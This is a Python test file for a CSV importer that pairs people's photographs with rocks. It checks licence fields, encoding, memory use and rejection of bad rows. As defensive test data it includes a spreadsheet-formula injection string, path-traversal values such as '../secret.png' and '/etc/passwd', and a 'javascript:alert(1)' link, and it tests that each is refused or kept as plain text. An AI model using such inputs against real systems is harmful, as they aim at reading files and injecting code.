"""Pairings come in from folders of people and a table of pairs, which may be hostile."""

import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rockmatch.importers.listed import ListedLayout
from rockmatch.importers.proposals import Proposal, Rights
from rockmatch.importers.reasons import Left
from rockmatch.importers.wording import tidy
from rockmatch.models import Human, Pairing
from rockmatch.vision.dataset.files import CannotGoOn
from tests.factories import make_rock
from tests.rockmatch.importers.conftest import run

ANN, BOB, STONE = (90, 20, 30), (130, 60, 30), (90, 80, 70)


def layout_of(tmp_path, table, rights=None):
    file = tmp_path / "pairs.csv"
    file.write_bytes(table if isinstance(table, bytes) else table.encode())
    return ListedLayout(tmp_path, file, rights or Rights())


def codes(layout):
    return [told.code if isinstance(told, Left) else "taken" for told in layout]


@pytest.mark.django_db
def test_people_come_in_with_what_their_rows_say(listed, eyes):
    rock = make_rock("Moss Hollow")
    source = listed(
        [
            {
                "picture": "Ann Lee/1.jpg",
                "rock": "moss-hollow",
                "name": "",
                "source": "The Times",
                "licence": "CC BY 4.0",
                "may_be_shown": "yes",
                "note": "the brow",
            },
            {
                "picture": "Bob/x.png",
                "rock": "stones/Grey_Bear.png",
                "name": "Bobby",
                "source": "",
                "licence": "",
                "may_be_shown": "",
                "note": "",
            },
        ],
        {"Ann Lee/1.jpg": ANN, "Bob/x.png": BOB, "stones/Grey_Bear.png": STONE},
    )
    assert run(source, "--licence", "all rights reserved")[0] == 0
    ann, bobby = Human.objects.order_by("name")
    assert (ann.name, ann.source, ann.licence) == ("Ann Lee", "The Times", "CC BY 4.0")
    assert ann.may_be_shown
    assert (bobby.name, bobby.licence, bobby.may_be_shown) == (
        "Bobby",
        "all rights reserved",
        False,
    )
    first, second = Pairing.objects.order_by("human__name")
    assert (first.rock, first.note) == (rock, "the brow")
    assert second.rock.name == "Grey Bear"
    assert run(source)[0] == 0
    assert Pairing.objects.count() == 2


@pytest.mark.django_db
def test_one_photograph_may_be_paired_with_two_rocks_once_each(listed, eyes):
    make_rock("One"), make_rock("Two")
    rows = [{"picture": "Ann/1.jpg", "rock": rock} for rock in ("one", "two", "one")]
    assert run(listed(rows, {"Ann/1.jpg": ANN}))[0] == 0
    assert Human.objects.get().pairings.count() == 2


@pytest.mark.django_db
def test_what_looks_like_a_formula_stays_text(listed, eyes):
    make_rock("One")
    formula = '=HYPERLINK("http://example.org/"&A1)'
    row = {"picture": "Ann/1.jpg", "rock": "one", "name": formula, "note": "@SUM(1)"}
    assert run(listed([row], {"Ann/1.jpg": ANN}))[0] == 0
    assert Human.objects.get().name == formula
    assert Pairing.objects.get().note == "@SUM(1)"


@pytest.mark.parametrize(
    "picture",
    ["../secret.png", "Ann/../../secret.png", "/etc/passwd", "Ann\\..\\x.png", "", "Ann/\x001.png"],
)
def test_paths_that_lead_out_are_refused(tmp_path, picture):
    layout = layout_of(tmp_path, f"picture,rock\n{picture},one\nAnn/1.jpg,{picture}\n")
    assert all(code in {"outside", "bad_row"} for code in codes(layout))
    assert layout.total == 2


@pytest.mark.parametrize(
    ("row", "code"),
    [
        ("Ann/1.jpg", "bad_row"),
        ("Ann/1.jpg,one,perhaps,", "bad_row"),
        ("Ann/1.jpg,one,yes,javascript:alert(1)", "bad_row"),
        ("Ann/1.jpg,one,yes,https://example.org/l", "taken"),
        ("Ann/1.jpg,one,yes,", "taken"),
        ("Ann/1.jpg,one,yes,,and,more", "bad_row"),
        ("Ann/" + "x" * 9_000 + ",one,yes,", "bad_row"),
        ('"' + "x" * 200_000 + ",one,yes,", "bad_row"),
    ],
)
def test_rows_that_cannot_be_used_are_told_of(tmp_path, row, code):
    layout = layout_of(tmp_path, f"picture,rock,may_be_shown,licence_url\n{row}\n")
    assert codes(layout)[0] == code


def test_semicolons_and_a_byte_order_mark_are_read(tmp_path):
    layout = layout_of(tmp_path, b"\xef\xbb\xbfPicture;Rock;Name\nAnn/1.jpg;one;Zo\xc3\xab\n")
    (told,) = layout
    assert told.human.name == "Zoë"


def test_bytes_that_are_no_utf8_name_a_file_and_become_no_text(tmp_path):
    layout = layout_of(tmp_path, b"picture,rock,name\nAnn/1.jpg,one,Zo\xeb\n")
    (told,) = layout
    assert told.human.name == "Zo?"


@pytest.mark.parametrize(
    ("table", "words"),
    [
        (b"", "lacks: picture, rock"),
        (b"picture,stone\n", "lacks: rock"),
        (b"picture,rock,license\n", "not known: license"),
        ("picture,rock\n".encode("utf-16"), "not UTF-8"),
        (b"\x00\x01\x02", "not UTF-8"),
    ],
)
def test_a_table_that_is_none_is_refused(tmp_path, table, words):
    with pytest.raises(CannotGoOn, match=words):
        layout_of(tmp_path, table)


def test_a_long_table_is_not_held_in_memory(tmp_path):
    file = tmp_path / "pairs.csv"
    with file.open("w") as table:
        table.write("picture,rock,note\n")
        table.writelines(f"Ann/{n}.jpg,one,{'n' * 100}\n" for n in range(20_000))
    tracemalloc.start()
    layout = ListedLayout(tmp_path, file, Rights())
    taken = sum(isinstance(told, Proposal) for told in layout)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert layout.total == taken == 20_000
    assert peak < 500_000  # bytes; the table has 2.5 million


@given(st.text(), st.integers(1, 100))
def test_a_tidy_text_is_one_short_line_that_can_be_stored(text, longest):
    told = tidy(text, longest)
    assert len(told) <= longest
    assert told == " ".join(told.split())
    assert "\0" not in told
    assert told.encode().decode() == told
    assert tidy(told, longest) == told


@given(table=st.binary(max_size=400))
def test_no_table_breaks_the_reader(tmp_path_factory, table):
    folder = tmp_path_factory.mktemp("listed")
    try:
        layout = layout_of(folder, b"picture,rock,name\n" + table)
    except CannotGoOn:
        return
    assert len(list(layout)) == layout.total
